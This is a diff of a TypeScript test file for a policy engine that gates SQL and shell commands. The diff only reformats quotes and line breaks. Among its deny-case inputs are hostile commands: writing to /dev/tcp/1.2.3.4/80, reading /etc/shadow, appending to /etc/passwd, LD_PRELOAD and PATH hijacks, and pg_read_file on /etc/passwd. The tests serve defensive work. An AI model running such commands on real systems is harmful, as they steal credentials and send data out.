@@ -138,9 +138,11 @@ rules:
   const eng = { sub: 'e', groups: ['eng'] };
 
   it('returns the approval spec, the mode, and limits merged over the defaults', () => {
-    const d = p.decide(sql("UPDATE t SET a = 1 WHERE id = 2", 'app', eng));
+    const d = p.decide(sql('UPDATE t SET a = 1 WHERE id = 2', 'app', eng));
     expect(d).toMatchObject({
-      effect: 'require_approval', rules: ['writes'], mode: 'write',
+      effect: 'require_approval',
+      rules: ['writes'],
+      mode: 'write',
       approval: { groups: ['dba', 'leads'], count: 2, timeoutSec: 600, windowMaxSec: 120 },
       limits: { rows: 100, seconds: 10, rowsAffected: 10, bytes: 4 * 1024 * 1024 },
       masking: { strategy: 'partial' },
@@ -149,7 +151,7 @@ rules:
   });
 
   it('beats an allow rule that also covers the intent', () => {
-    expect(p.decide(sql("INSERT INTO t VALUES (1)", 'stage', eng)).effect).toBe('require_approval');
+    expect(p.decide(sql('INSERT INTO t VALUES (1)', 'stage', eng)).effect).toBe('require_approval');
   });
 
   it('escalates an allowed intent when any statement matches (scope: any), with both rules named', () => {
@@ -259,7 +261,7 @@ rules:
 `);
     expect(p.decide(sql('SELECT 1')).mode).toBe('read');
     expect(p.decide(sql('SELECT * FROM t FOR UPDATE')).effect).toBe('deny');
-    expect(p.decide(sql("UPDATE t SET a = 1 WHERE id = 1")).effect).toBe('deny');
+    expect(p.decide(sql('UPDATE t SET a = 1 WHERE id = 1')).effect).toBe('deny');
     const w = { sub: 'w', groups: ['writers'] };
     expect(p.decide(sql('SELECT 1', 'wh', w)).mode).toBe('read'); // default: read when the facts are read-only
     expect(p.decide(sql('UPDATE t SET a = 1 WHERE id = 1', 'wh', w)).mode).toBe('write');
@@ -271,7 +273,7 @@ rules:
   - { id: s, effect: allow, match: { sql: { kinds: [select] } } }
   - { id: fn, effect: allow, match: { principal: { groups: [seq] }, sql: { kinds: [select], functions: [nextval] } } }
 `);
-    for (const q of ['SELECT pg_sleep(10)', 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', 'SELECT * INTO t2 FROM t', 'SELECT pg_catalog.pg_read_file(\'/etc/passwd\')']) {
+    for (const q of ['SELECT pg_sleep(10)', 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d', 'SELECT * INTO t2 FROM t', "SELECT pg_catalog.pg_read_file('/etc/passwd')"]) {
       expect(p.decide(sql(q)).effect, q).toBe('deny');
     }
     expect(p.decide(sql("SELECT nextval('s')", 'wh', { sub: 's', groups: ['seq'] })).effect).toBe('allow');
@@ -286,8 +288,17 @@ rules:
 `);
     expect(p.decide(sh('cat /etc/hosts 2>/dev/null')).effect).toBe('allow');
     expect(p.decide(sh('LANG=C; cat /etc/hosts')).effect).toBe('allow');
-    for (const c of ['cat x > /tmp/y', 'cat x >> /etc/passwd', 'echo x > /dev/tcp/1.2.3.4/80', 'sudo cat x', 'LD_PRELOAD=/x.so cat y', 'cat < /etc/shadow', 'env PAGER=sh cat x',
-      'PATH=/tmp/evil; cat x', 'IFS=/; cat x']) {
+    for (const c of [
+      'cat x > /tmp/y',
+      'cat x >> /etc/passwd',
+      'echo x > /dev/tcp/1.2.3.4/80',
+      'sudo cat x',
+      'LD_PRELOAD=/x.so cat y',
+      'cat < /etc/shadow',
+      'env PAGER=sh cat x',
+      'PATH=/tmp/evil; cat x',
+      'IFS=/; cat x',
+    ]) {
       expect(p.decide(sh(c)).effect, c).toBe('deny');
     }
     const w = { sub: 'w', groups: ['writers'] };
@@ -396,9 +407,12 @@ describe('the index', () => {
       const approval = effect === 'require_approval' ? ', approval: { groups: [dba], timeoutSec: 60 }' : '';
       const target = i % 3 === 0 ? `target: { name: [${['wh', 'app', 'stage'][i % 3]}] }, ` : i % 4 === 0 ? 'target: { name: ["w*"] }, ' : '';
       const principal = i % 2 === 0 ? `principal: { groups: [${g}] }, ` : i % 9 === 0 ? `principal: { sub: [alice] }, ` : '';
-      const cmd = i % 11 === 0 ? `shell: { programs: [${['ls', 'cat', 'rm'][i % 3]}] }`
-        : i % 10 === 5 ? `sql: { tablesRead: ["${['public', 'hr', 'x*'][i % 3]}.t${i % 13}"] }` // a denial found by its table's schema
-          : `sql: { kinds: [${k}${i % 2 ? ', select' : ''}], tables: ["public.t${i % 13}", "public.t${(i + 1) % 13}"] }`;
+      const cmd =
+        i % 11 === 0
+          ? `shell: { programs: [${['ls', 'cat', 'rm'][i % 3]}] }`
+          : i % 10 === 5
+            ? `sql: { tablesRead: ["${['public', 'hr', 'x*'][i % 3]}.t${i % 13}"] }` // a denial found by its table's schema
+            : `sql: { kinds: [${k}${i % 2 ? ', select' : ''}], tables: ["public.t${i % 13}", "public.t${(i + 1) % 13}"] }`;
       rules.push(`  - { id: r${i}, effect: ${effect}, match: { ${principal}${target}${cmd} }${approval} }`);
     }
     const text = `rules:\n${rules.join('\n')}\n`;
